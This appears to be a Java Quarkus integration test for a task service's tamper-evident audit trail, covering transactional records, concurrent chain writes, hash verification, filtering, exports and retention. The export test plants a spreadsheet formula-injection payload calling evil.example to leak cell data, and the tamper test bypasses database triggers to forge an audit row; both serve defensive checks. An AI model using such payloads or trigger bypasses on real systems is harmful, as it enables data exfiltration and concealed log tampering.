package cn.wenming.task.rest;

import static cn.wenming.common.testing.ProblemAssertions.assertProblem;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import jakarta.inject.Inject;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import cn.wenming.common.audit.AuditChain;
import cn.wenming.common.audit.AuditEntry;
import cn.wenming.common.audit.Outcome;
import cn.wenming.common.security.Roles;
import cn.wenming.common.testing.AuditRecords;
import cn.wenming.common.testing.SuiteTestResource;
import cn.wenming.common.testing.TestTokens;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.response.Response;

/**
 * The audit trail in depth, on task-service (the generic checks run in every service through
 * ConventionsContract): a change and its record commit together or not at all; concurrent writers,
 * also another replica's, make one gap-free chain; a row altered by hand is named by the verification;
 * exports (CSV, JSON Lines) and their own record; filters and paging.
 */
@QuarkusTest
@WithTestResource(SuiteTestResource.class)
class AuditTrailTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    AgroalDataSource database;

    @BeforeAll
    static void logFailures() {
        RestAssured.enableLoggingOfRequestAndResponseIfValidationFails();
    }

    // --- one transaction --------------------------------------------------------------------------

    @Test
    void aChangeAndItsRecordAreWrittenByOneTransaction() throws SQLException {
        Office o = new Office();
        String plan = o.plan();
        String created = AuditRecords.requestId();
        String area = Office.as(o.editor).header("X-Request-Id", created).body(Map.of("title", "推进新时代文明实践中心建设"))
                .post(Office.PLANS + "/" + plan + "/areas").then().statusCode(201).extract().path("id");
        Map<String, Object> record = AuditRecords.only(created);
        assertEquals("PlanArea", record.get("resourceType"));
        assertEquals(area, record.get("resourceId"));
        // PostgreSQL's xmin is the transaction that wrote a row version: the area's and its record's are the same
        assertEquals(xmin("select xmin::text from plan_area where id = ?::uuid", area),
                xmin("select xmin::text from audit.audit_record where request_id = ?", created));

        String edited = AuditRecords.requestId();
        Office.as(o.editor).header("X-Request-Id", edited).header("If-Match", "\"0\"")
                .body(Map.of("title", "推进新时代文明实践中心建设（修订）")).put(Office.PLANS + "/" + plan + "/areas/" + area)
                .then().statusCode(200);
        Map<String, Object> edit = AuditRecords.only(edited);
        assertEquals(0, edit.get("versionBefore"));
        assertEquals(1, edit.get("versionAfter"));
        assertEquals("AreaResource_update", edit.get("operation"));
        assertEquals(xmin("select xmin::text from plan_area where id = ?::uuid", area),
                xmin("select xmin::text from audit.audit_record where request_id = ?", edited));
    }

    @Test
    void everyEntityATransactionChangedIsListed() {
        Office o = new Office();
        String plan = o.plan();
        String area = o.area(plan, "深入推进新时代公民道德建设工程");
        String first = o.task(area, "依托“北京榜样”传播道德力量");
        String second = o.task(area, "深化道德模范学习宣传");
        // inserting at position 1 moves the two tasks down: three entities change, the new task is the record's resource
        String requestId = AuditRecords.requestId();
        Map<String, Object> body = Office.taskBody(area, "弘扬社会主义核心价值观");
        body.put("position", 1);
        String inserted = Office.as(o.editor).header("X-Request-Id", requestId).body(body).post(Office.TASKS).then().statusCode(201)
                .extract().path("id");
        Map<String, Object> record = AuditRecords.only(requestId);
        assertEquals("Task", record.get("resourceType"));
        assertEquals(inserted, record.get("resourceId"));
        assertEquals(0, record.get("versionAfter"));
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> changes = (List<Map<String, Object>>) record.get("changes");
        Map<String, String> kinds = new java.util.HashMap<>();
        changes.forEach(c -> kinds.put((String) c.get("id"), (String) c.get("change")));
        assertEquals("INSERT", kinds.get(inserted), changes.toString());
        assertEquals("UPDATE", kinds.get(first), changes.toString());
        assertEquals("UPDATE", kinds.get(second), changes.toString());
        Map<String, Object> moved = changes.stream().filter(c -> first.equals(c.get("id"))).findFirst().orElseThrow();
        assertEquals(0, moved.get("versionBefore"));
        assertEquals(1, moved.get("versionAfter"));
    }

    @Test
    void aConflictAfterAChangeLeavesItsRefusalAndNoSuccess() {
        Office o = new Office();
        String plan = o.plan();
        String title = Office.as(o.reader).get(Office.PLANS + "/" + plan).then().extract().path("title");
        String requestId = AuditRecords.requestId();
        assertProblem(given().header("Authorization", o.admin).header("X-Request-Id", requestId)
                .post("/api/v1/test-audit/work-plans/" + plan + "/conflict-after-change").then(), 409, "conflict");
        Map<String, Object> refusal = AuditRecords.only(requestId);
        assertEquals("REFUSED", refusal.get("outcome"));
        assertEquals(409, refusal.get("status"));
        assertEquals("WorkPlan", refusal.get("resourceType"));
        assertEquals(plan, refusal.get("resourceId"));
        // and the change itself is gone with its transaction
        Office.as(o.reader).get(Office.PLANS + "/" + plan).then().body("title", org.hamcrest.Matchers.equalTo(title));
    }

    @Test
    void aConstraintViolatedAtTheFlushLeavesItsRefusalAndNoSuccess() {
        Office o = new Office();
        String plan = o.plan();
        String requestId = AuditRecords.requestId();
        assertProblem(given().header("Authorization", o.admin).header("X-Request-Id", requestId)
                .post("/api/v1/test-audit/work-plans/" + plan + "/constraint-at-flush").then(), 409, "conflict");
        Map<String, Object> refusal = AuditRecords.only(requestId);
        assertEquals("REFUSED", refusal.get("outcome"));
        assertEquals(409, refusal.get("status"));
    }

    @Test
    void aBulkReportRefusedAfterItsGoodRowsLeavesItsRefusalAndNoSuccess() {
        Office o = new Office();
        String plan = o.plan();
        String area = o.area(plan, "推进精神文明建设工作创新发展");
        o.task(area, "任务一");
        o.task(area, "任务二");
        o.activate(plan);
        // the first row is recorded (the task changes), then the second is refused: all of it rolls back
        String requestId = AuditRecords.requestId();
        List<Map<String, Object>> rows = List.of(Map.of("number", 1, "unit", Office.LEAD, "percent", 30, "text", "已发布"),
                Map.of("number", 2, "unit", Office.LEAD, "percent", 101, "text", "越界"));
        assertProblem(Office.as(o.editor).header("X-Request-Id", requestId).body(rows).post(Office.PLANS + "/" + plan + "/progress").then(),
                400, "validation");
        List<Map<String, Object>> records = AuditRecords.ofRequest(requestId);
        assertEquals(1, records.size(), records.toString());
        assertEquals("REFUSED", records.get(0).get("outcome"));
        assertEquals(400, records.get(0).get("status"));
    }

    @Test
    void backgroundWorkIsNotAudited() {
        // the seed's 2020 plan and its 23 tasks were stored at start, by no request: no record names them
        Office o = new Office();
        List<Map<String, Object>> plans = Office.as(o.reader).queryParam("limit", 100).get(Office.PLANS).then().statusCode(200)
                .extract().path("items");
        String seeded = (String) plans.stream().filter(p -> Integer.valueOf(2020).equals(p.get("year"))).findFirst().orElseThrow()
                .get("id");
        given().header("Authorization", AuditRecords.admin()).queryParam("resourceId", seeded).queryParam("operation", "WorkPlanResource_create")
                .get(AuditRecords.base() + "/records").then().statusCode(200).body("items.size()", org.hamcrest.Matchers.equalTo(0));
    }

    // --- the chain ---------------------------------------------------------------------------------

    /**
     * Writes from many threads at once (creates and refusals, each its own request) and, beside them, a
     * second writer on connections of its own, as another replica of the service would be: the chain
     * is one line without a gap, every request has exactly its record, and it verifies. Counted, not timed.
     */
    @Test
    void manyParallelWritersMakeOneGapFreeChain() throws Exception {
        Office o = new Office();
        String plan = o.plan();
        String area = o.area(plan, "持续开展公共文明引导专项行动");
        long before = AuditRecords.verify().getLong("lastSeq");
        int creates = 24;
        int refusals = 24;
        int replica = 24;
        List<String> requestIds = Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<?>> work = new ArrayList<>();
            for (int i = 0; i < creates; i++) {
                int n = i;
                work.add(pool.submit(() -> {
                    String id = AuditRecords.requestId();
                    requestIds.add(id);
                    Office.as(o.editor).header("X-Request-Id", id).body(Office.taskBody(area, "并发任务 " + n)).post(Office.TASKS)
                            .then().statusCode(201);
                }));
            }
            for (int i = 0; i < refusals; i++) {
                int n = i;
                work.add(pool.submit(() -> {
                    String id = AuditRecords.requestId();
                    requestIds.add(id);
                    Office.as(o.reader).header("X-Request-Id", id).body(Office.taskBody(area, "读者无权 " + n)).post(Office.TASKS)
                            .then().statusCode(403);
                }));
            }
            for (int i = 0; i < replica; i++) {
                String id = "replica-" + UUID.randomUUID();
                requestIds.add(id);
                work.add(pool.submit(() -> {
                    appendAsAnotherReplica(id);
                    return null;
                }));
            }
            for (Future<?> f : work) {
                f.get(120, TimeUnit.SECONDS);
            }
        } finally {
            pool.shutdownNow();
        }
        var verification = AuditRecords.verify();
        assertEquals(Boolean.TRUE, verification.get("valid"), verification.prettify());
        long after = verification.getLong("lastSeq");
        assertTrue(after - before >= creates + refusals + replica, "at least one record each: " + before + " → " + after);
        try (Connection c = database.getConnection(); Statement s = c.createStatement();
                ResultSet r = s.executeQuery("select count(*), min(seq), max(seq), count(distinct seq) from audit.audit_record")) {
            r.next();
            assertEquals(r.getLong(1), r.getLong(3) - r.getLong(2) + 1, "no gap in seq");
            assertEquals(r.getLong(1), r.getLong(4), "no seq twice");
        }
        for (String id : requestIds) {
            assertEquals(1, AuditRecords.ofRequest(id).size(), "exactly one record of " + id);
        }
    }

    private void appendAsAnotherReplica(String requestId) throws SQLException {
        try (Connection c = database.getConnection()) {
            c.setAutoCommit(false);
            AuditChain.append(c, new AuditEntry("replica-writer", null, "service", "127.0.0.1", "POST", "/api/v1/tasks", null,
                    "TaskResource_create", "Task", null, null, null, Outcome.REFUSED, 403, requestId, null, null), Instant.now());
            c.commit();
        }
    }

    @Test
    void aRecordAlteredByHandIsNamedByTheVerification() throws SQLException {
        String requestId = AuditRecords.requestId();
        given().header("X-Request-Id", requestId).contentType(ContentType.JSON).body(Map.of("year", 2099, "title", "无令牌"))
                .post(Office.PLANS).then().statusCode(401);
        Map<String, Object> record = AuditRecords.only(requestId);
        long seq = ((Number) record.get("seq")).longValue();
        String path = (String) record.get("path");
        assertEquals(Boolean.TRUE, AuditRecords.verify().get("valid"));
        try {
            asSuperuserWithoutTriggers("update audit.audit_record set path = '/api/v1/work-plans/forged' where seq = ?", seq);
            var verification = AuditRecords.verify();
            assertEquals(Boolean.FALSE, verification.get("valid"), verification.prettify());
            assertEquals(seq, verification.getLong("invalid.seq"), verification.prettify());
            assertEquals(record.get("id"), verification.get("invalid.id"));
            assertTrue(verification.getString("invalid.reason").contains("hash"), verification.prettify());
        } finally {
            asSuperuserWithoutTriggers("update audit.audit_record set path = '" + path + "' where seq = ?", seq);
        }
        assertEquals(Boolean.TRUE, AuditRecords.verify().get("valid"), "the chain holds again once the row is as it was");
    }

    /** What only a superuser can do: change a row past the triggers (they do not fire for a replica session). */
    private void asSuperuserWithoutTriggers(String sql, long seq) throws SQLException {
        try (Connection c = database.getConnection(); Statement s = c.createStatement()) {
            s.execute("set session_replication_role = replica");
            try (PreparedStatement p = c.prepareStatement(sql)) {
                p.setLong(1, seq);
                assertEquals(1, p.executeUpdate());
            } finally {
                s.execute("set session_replication_role = origin");
            }
        }
    }

    @Test
    void theGatewaysForwardedHeadersAreBelievedFromLoopback() {
        // loopback is the trusted proxy by default: where the local run's gateway is
        Office o = new Office();
        String plan = o.plan();
        String requestId = AuditRecords.requestId();
        Office.as(o.editor).header("X-Request-Id", requestId).header("X-Forwarded-For", "198.51.100.23")
                .header("X-Forwarded-Proto", "http").header("X-Forwarded-Host", "gateway.test:8088")
                .body(Map.of("title", "推进新时代文明实践中心建设")).post(Office.PLANS + "/" + plan + "/areas").then().statusCode(201)
                .header("Location", org.hamcrest.Matchers.startsWith("http://gateway.test:8088/api/v1/work-plans/"));
        assertEquals("198.51.100.23", AuditRecords.only(requestId).get("clientAddress"));
    }

    // --- reading: filters, paging, exports ------------------------------------------------------------

    @Test
    void adminsFilterTheTrailAndPageThroughItNewestFirst() {
        Office o = new Office();
        String plan = o.plan();
        String area = o.area(plan, "深化群众性精神文明创建活动");
        String user = "筛选-" + UUID.randomUUID();
        String org = TestTokens.OFFICE.toString();
        String token = TestTokens.bearer(user, Roles.EDITOR);
        String refused = TestTokens.bearer(user, Roles.READER);
        List<String> tasks = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            tasks.add(Office.as(token).body(Office.taskBody(area, "筛选任务 " + i)).post(Office.TASKS).then().statusCode(201)
                    .extract().path("id"));
        }
        for (int i = 0; i < 2; i++) {
            Office.as(refused).body(Office.taskBody(area, "无权 " + i)).post(Office.TASKS).then().statusCode(403);
        }
        List<Map<String, Object>> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            var request = given().header("Authorization", AuditRecords.admin()).queryParam("user", user).queryParam("limit", 2);
            if (cursor != null) {
                request.queryParam("cursor", cursor);
            }
            Response page = request.get(AuditRecords.base() + "/records");
            page.then().statusCode(200);
            seen.addAll(page.path("items"));
            cursor = page.path("nextCursor");
            pages++;
        } while (cursor != null && pages < 10);
        assertEquals(3, pages);
        assertEquals(5, seen.size());
        for (int i = 1; i < seen.size(); i++) {
            assertTrue(((Number) seen.get(i - 1).get("seq")).longValue() > ((Number) seen.get(i).get("seq")).longValue(), "newest first");
        }
        assertEquals(tasks.get(2), seen.get(2).get("resourceId"), "the last create is the newest record after the two refusals");
        assertEquals(2, count(Map.of("user", user, "outcome", "REFUSED")));
        assertEquals(2, count(Map.of("user", user, "status", "403")));
        assertEquals(5, count(Map.of("org", org, "user", user, "resourceType", "Task")));
        assertEquals(3, count(Map.of("org", org, "user", user, "operation", "TaskResource_create", "outcome", "SUCCESS")));
        assertEquals(0, count(Map.of("org", UUID.randomUUID().toString(), "user", user)), "another body's records are not these");
        assertEquals(1, count(Map.of("user", user, "resourceId", tasks.get(1))));
        LocalDate today = LocalDate.now(ZoneId.of("Asia/Shanghai"));
        assertEquals(5, count(Map.of("user", user, "from", today.minusDays(1).toString(), "to", today.toString())));
        assertEquals(0, count(Map.of("user", user, "from", today.plusDays(1).toString())));
        assertEquals(0, count(Map.of("user", user, "to", "2000-01-01T00:00:00+08:00")));
        assertProblem(given().header("Authorization", AuditRecords.admin()).queryParam("from", "2026-05-02").queryParam("to", "2026-05-01")
                .get(AuditRecords.base() + "/records").then(), 400, "validation").body("errors.field", hasItem("to"));
    }

    private static int count(Map<String, String> filters) {
        return given().header("Authorization", AuditRecords.admin()).queryParams(filters).queryParam("limit", 100)
                .get(AuditRecords.base() + "/records").then().statusCode(200).extract().path("items.size()");
    }

    @Test
    void exportsAreCsvAndJsonLinesWithoutFormulasAndAreThemselvesRecorded() throws Exception {
        Office o = new Office();
        String plan = o.plan();
        String area = o.area(plan, "加强思想道德建设");
        String user = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")-" + UUID.randomUUID();
        String token = TestTokens.bearer(user, Roles.EDITOR);
        String created = Office.as(token).body(Office.taskBody(area, "导出任务")).post(Office.TASKS).then().statusCode(201).extract().path("id");
        Office.as(token).header("X-Forwarded-For", "@10.0.0.1").body(Office.taskBody(area, "+导出任务二")).post(Office.TASKS)
                .then().statusCode(201);

        String exportId = AuditRecords.requestId();
        Response csv = given().header("Authorization", AuditRecords.admin()).header("X-Request-Id", exportId).queryParam("user", user)
                .queryParam("format", "csv").get(AuditRecords.base() + "/export");
        csv.then().statusCode(200).contentType(containsString("text/csv")).header("Content-Disposition", containsString(".csv"));
        String text = new String(csv.asByteArray(), StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "a BOM for spreadsheets");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();
        assertEquals(2, rows.size(), text);
        for (CSVRecord row : rows) {
            assertEquals("'" + user, row.get("user"), "a user name that starts a formula is neutralized");
            for (String cell : row.values()) {
                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "no cell starts a formula: " + cell);
            }
        }
        assertEquals(created, rows.get(0).get("resourceId"), "oldest first");
        assertEquals("'@10.0.0.1", rows.get(1).get("clientAddress"));
        Map<String, Object> exported = AuditRecords.only(exportId);
        assertEquals("exportAuditRecords", exported.get("operation"));
        assertEquals("SUCCESS", exported.get("outcome"));
        assertEquals(200, exported.get("status"));
        assertTrue(((String) exported.get("query")).contains("format=csv"), exported.toString());

        for (String accept : List.of("application/x-ndjson", "application/jsonl")) {
            Response lines = given().header("Authorization", AuditRecords.admin()).header("Accept", accept).queryParam("user", user)
                    .get(AuditRecords.base() + "/export");
            lines.then().statusCode(200).contentType(containsString(accept));
            String[] each = lines.asString().split("\n");
            assertEquals(2, each.length, lines.asString());
            JsonNode first = JSON.readTree(each[0]);
            assertEquals(user, first.path("user").asText(), "JSON keeps the text as it is");
            assertEquals(created, first.path("resourceId").asText());
            assertEquals("INSERT", first.path("changes").path(0).path("change").asText());
        }
        assertProblem(given().header("Authorization", AuditRecords.admin()).queryParam("format", "xlsx").get(AuditRecords.base() + "/export")
                .then(), 400, "validation").body("errors.field", hasItem("format"));
        assertProblem(given().header("Authorization", o.editor).get(AuditRecords.base() + "/export").then(), 403, "forbidden");
    }

    @Test
    void aPurgeWithinTheRetentionIsRefusedAndRemovesNothing() {
        var before = AuditRecords.verify();
        String requestId = AuditRecords.requestId();
        assertProblem(given().header("Authorization", AuditRecords.admin()).header("X-Request-Id", requestId).contentType(ContentType.JSON)
                .body(Map.of("before", "2030-01-01T00:00:00+08:00")).post(AuditRecords.base() + "/purge").then(), 409, "conflict")
                .body("detail", containsString("180"));
        var after = AuditRecords.verify();
        assertEquals(before.getLong("firstSeq"), after.getLong("firstSeq"), "nothing removed");
        assertEquals("REFUSED", AuditRecords.only(requestId).get("outcome"));
        assertProblem(given().header("Authorization", AuditRecords.admin()).contentType(ContentType.JSON).body(Map.of("before", "yesterday"))
                .post(AuditRecords.base() + "/purge").then(), 400, "validation").body("errors.field", hasItem("before"));
    }

    private String xmin(String sql, String key) throws SQLException {
        try (Connection c = database.getConnection(); PreparedStatement p = c.prepareStatement(sql)) {
            p.setString(1, key);
            try (ResultSet r = p.executeQuery()) {
                assertTrue(r.next(), sql + " " + key);
                String xmin = r.getString(1);
                assertNotNull(xmin);
                assertTrue(!r.next(), "one row");
                return xmin;
            }
        }
    }
}
